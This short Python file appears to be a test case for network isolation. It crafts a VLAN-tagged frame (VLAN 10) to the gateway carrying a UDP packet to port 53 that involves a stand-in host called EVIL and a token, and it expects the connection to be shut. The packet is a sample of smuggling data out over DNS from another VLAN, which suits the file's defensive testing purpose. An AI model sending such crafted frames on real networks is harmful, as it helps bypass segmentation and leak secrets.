"""
how: in another VLAN
expect: shut
"""

from frames import frame, gateway, ipv4, udp_part, vlan
from land import EVIL


def attempt(token):
    return frame(gateway(), 0x8100, vlan(10, 0x0800, ipv4(EVIL, 17, udp_part(EVIL, 53, token))))
